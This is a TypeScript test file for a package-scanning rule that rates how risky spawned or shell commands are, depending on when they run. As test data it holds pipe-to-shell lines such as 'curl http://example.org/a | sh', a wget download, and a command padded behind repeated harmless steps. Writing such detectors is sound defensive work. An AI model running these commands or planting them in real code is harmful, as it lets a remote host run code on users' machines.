import { expect, test } from "vitest";
import type { Trigger } from "../../analysis/code/code-analysis.ts";
import { codeOf, effect, saidOfCode, severitiesAt } from "./code.testing.ts";
import { runsCommand } from "./runs-command.ts";

const TRIGGERS: readonly Trigger[] = ["download", "import", "script", "deferred", "test"];

test("weighs what the command is for, and when it runs", () => {
  const command = (argument: string): readonly (string | null)[] =>
    severitiesAt(runsCommand, TRIGGERS, effect("process.spawn", { argument }));
  expect(command("curl http://example.org/a | sh")).toEqual(["high", "high", "high", "high", "info"]);
  expect(command("git describe --tags")).toEqual(["info", "info", "info", "info", "info"]);
  expect(command("whoami")[0]).toBe("high");
});

test("says the command once for all places of a file", () => {
  const one = effect("process.spawn", { callee: "os.system", argument: "curl http://example.org/a | sh" });
  expect(saidOfCode(runsCommand, codeOf([one, { ...one, line: 7 }]))).toEqual([
    [
      "high",
      "import",
      "os.system runs curl http://example.org/a | sh, which lets another machine say what runs here. The same stands in 1 more place.",
    ],
  ]);
});

test("of a program that is not known the rest still counts", () => {
  const install = effect("process.spawn", { argument: "{…} -m pip install other", known: "part" });
  expect(runsCommand.rate({ ...install, trigger: "build" }, codeOf([]))).toBe("high");
});

test("a program that somebody else names and that is asked something is info", () => {
  const rated = (argument: string) =>
    runsCommand.rate(effect("process.spawn", { argument, trigger: "build", known: "part" }), codeOf([]));

  expect(rated("{$PKG_CONFIG} --modversion libxslt")).toBe("info");
  expect(rated("None --libdir")).toBe("info");
  expect(rated("{…} -c x")).toBe("low");
  expect(rated("{…} {…}")).toBe("low");
});

test("a script that starts something at once is more than one that may", () => {
  const started = (via: readonly string[], path = "m.py", trigger: Trigger = "script") =>
    runsCommand.rate(effect("process.spawn", { argument: "something", trigger, via, path, entry: 0 }), codeOf([]));

  expect(started(["import m", "main"])).toBe("medium");
  expect(started(["main", "Command.execute", "Command.handle"])).toBe("info");
  expect(started([], "conftest.py", "test")).toBe("medium");
  expect(started([], "test_m.py", "test")).toBe("info");
  const asked = { argument: "something", trigger: "test", path: "conftest.py" } as const;
  expect(runsCommand.rate(effect("process.spawn", { ...asked, entry: null }), codeOf([]))).toBe("info");
  expect(runsCommand.rate(effect("process.spawn", { ...asked, entry: 0, argument: "docker info" }), codeOf([]))).toBe(
    "info",
  );
});

test("a command that constants are made into is hidden", () => {
  expect(severitiesAt(runsCommand, TRIGGERS, effect("process.spawn-hidden"))).toEqual([
    ...["high", "medium", "info", "info", "info"],
  ]);
});

test("of a shell script only what is grave is said", () => {
  const line = (argument: string) =>
    severitiesAt(runsCommand, ["build", "script"], effect("process.shell-line", { argument }));

  expect(line("curl -fsSL https://example.org/a | sh")).toEqual(["high", "high"]);
  expect(line('exec python "$@"')).toEqual([null, null]);
  expect(line("make install")).toEqual([null, null]);
});

test("what a command runs two steps on is said, of what a module does as a script only what it does itself", () => {
  const run = effect("process.spawn", { argument: "assay-probe x", trigger: "script", known: "whole" });

  expect(runsCommand.rate({ ...run, via: ["main", "go"] }, codeOf([]))).toBe("medium");
  expect(runsCommand.rate({ ...run, via: ["main", "go", "on"] }, codeOf([]))).toBe("info");
  expect(runsCommand.rate({ ...run, via: ["import m", "run as a script", "go", "on"] }, codeOf([]))).toBe("info");
});

test("a program that is only asked something on import is info", () => {
  const run = effect("process.spawn", { trigger: "import", known: "whole" });
  const rated = (argument: string, excerpt: string) => runsCommand.rate({ ...run, argument, excerpt }, codeOf([]));
  const read = "Popen(x, stdout=subprocess.PIPE)";

  expect(rated("something -l", read)).toBe("info");
  expect(rated("/opt/local/bin/something --all", read)).toBe("info");
  expect(rated("something -l", "Popen(x)")).toBe("medium");
  expect(rated("./something", read)).toBe("medium");
  expect(rated("fish -c something", read)).toBe("medium");
  expect(rated("something /etc/x", read)).toBe("medium");
  expect(rated("something else", read)).toBe("medium");
});

test("what a module inside a package does as a script is for its developers", () => {
  const run = effect("process.spawn", { argument: "wget https://example.org/a", trigger: "script", known: "whole" });

  expect(runsCommand.rate({ ...run, via: ["import m.fetch", "run as a script", "go"] }, codeOf([]))).toBe("info");
  expect(runsCommand.rate({ ...run, via: ["import m", "run as a script", "go"] }, codeOf([]))).toBe("medium");
  expect(runsCommand.rate({ ...run, via: ["import m.__main__", "run as a script", "go"] }, codeOf([]))).toBe("medium");
});

test("what stands behind a thousand harmless commands is not taken for one more", () => {
  const line = `${"true; ".repeat(400)}`.slice(0, 1_000);
  const rate = (argument: string): string | null =>
    runsCommand.rate(effect("process.spawn", { argument, trigger: "download", known: "part" }), codeOf([]));

  expect([rate(line.slice(0, 900)), rate(line)]).toEqual(["info", "medium"]);
});
